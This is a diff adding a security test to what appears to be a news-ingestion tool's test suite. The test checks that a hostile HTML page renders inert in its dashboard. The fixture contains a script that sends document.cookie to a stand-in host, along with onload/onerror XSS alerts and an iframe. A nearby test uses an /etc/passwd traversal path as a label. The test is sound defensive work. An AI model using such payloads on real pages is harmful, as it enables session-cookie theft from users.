@@ -107,3 +107,32 @@ def test_reliability_input_paths_are_labels_never_opened(tmp_path: Path) -> None
     assert doc.source.endswith("#../../../../etc/passwd")
     assert "root:" not in doc.text
     assert set(tmp_path.iterdir()) - before <= {tmp_path / "p.db", tmp_path / "p.db-wal", tmp_path / "p.db-shm"}
+
+
+HOSTILE_HTML = """<html><head><title>Clashes in Sirte</title>
+<script>fetch('http://203.0.113.9/steal?c=' + document.cookie)</script></head>
+<body onload="alert(1)"><article><h1>Clashes in Sirte</h1>
+<p>Fighters clashed with government troops on the outskirts of Sirte on Tuesday, killing four people, officials said.</p>
+<p><img src=x onerror="alert(2)">Residents said the fighting stopped by nightfall.<iframe src="http://203.0.113.9/"></iframe></p>
+<p>Witnesses said the clashes &lt;script&gt;alert(3)&lt;/script&gt; began near the port.</p>
+</article></body></html>"""
+
+
+def test_reliability_hostile_page_renders_inert_in_dashboard(tmp_path: Path) -> None:
+    import asyncio
+
+    from sitrep.web import make_datasette
+
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "hostile.html").write_text(HOSTILE_HTML)
+    run([tmp_path / "in"], tmp_path / "h.db")
+    (doc,) = Store(tmp_path / "h.db").iter_documents()
+    assert "Fighters clashed" in doc.text
+    ds = make_datasette(tmp_path / "h.db")
+    asyncio.run(ds.invoke_startup())
+    html = asyncio.run(ds.client.get(f"/article/{doc.id}")).text
+    body = html.lower()
+    for needle in ("<script>alert", "onerror=\"alert", "onload=\"alert", "<iframe", "203.0.113.9"):
+        assert needle not in body, needle
+    if "alert(3)" in doc.text:
+        assert "&lt;script&gt;alert(3)" in html
